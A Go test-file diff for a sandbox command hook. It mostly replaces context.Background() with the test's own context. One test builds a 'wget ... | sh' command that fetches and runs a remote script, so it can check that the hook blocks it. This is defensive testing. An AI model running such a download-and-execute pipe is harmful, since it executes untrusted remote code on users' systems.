@@ -18,17 +18,17 @@ import (
 func openDocker(t testing.TB, c *Client, session string) *Sandbox {
 	t.Helper()
 	spec, sum := tenantSpec(t, template(t), "acme", session)
-	sb, err := c.Open(context.Background(), Request{Spec: spec, SpecSHA256: sum, TenantID: "acme", SessionID: session})
+	sb, err := c.Open(t.Context(), Request{Spec: spec, SpecSHA256: sum, TenantID: "acme", SessionID: session})
 	if err != nil {
 		t.Fatal(err)
 	}
-	t.Cleanup(func() { _ = sb.Close(context.Background()) })
+	t.Cleanup(func() { _ = sb.Close(context.WithoutCancel(t.Context())) })
 	return sb
 }
 
 func markerState(t *testing.T, sb *Sandbox, path string) string {
 	t.Helper()
-	res, err := sb.Run(context.Background(), []string{"ls", path}, RunOptions{})
+	res, err := sb.Run(t.Context(), []string{"ls", path}, RunOptions{})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -45,7 +45,7 @@ func markerState(t *testing.T, sb *Sandbox, path string) string {
 func TestHook_Docker_BlockedCommandDidNotRun(t *testing.T) {
 	needDocker(t)
 	tools.NeedAnalysers(t, analysers.ShellCheck)
-	ctx := context.Background()
+	ctx := t.Context()
 	pipe := func(marker string) string {
 		return fmt.Sprintf("touch %s; wget -qO- http://get.example.com/i.sh | sh", marker)
 	}
@@ -92,7 +92,7 @@ func TestHook_Docker_BlockedCommandDidNotRun(t *testing.T) {
 func BenchmarkHook(b *testing.B) {
 	needDocker(b)
 	tools.NeedAnalysers(b, analysers.Bandit, analysers.ShellCheck)
-	ctx := context.Background()
+	ctx := b.Context()
 	// The hook's own time, from each call's audit record, by command.
 	var mu sync.Mutex
 	hookTimes := map[string][]time.Duration{}
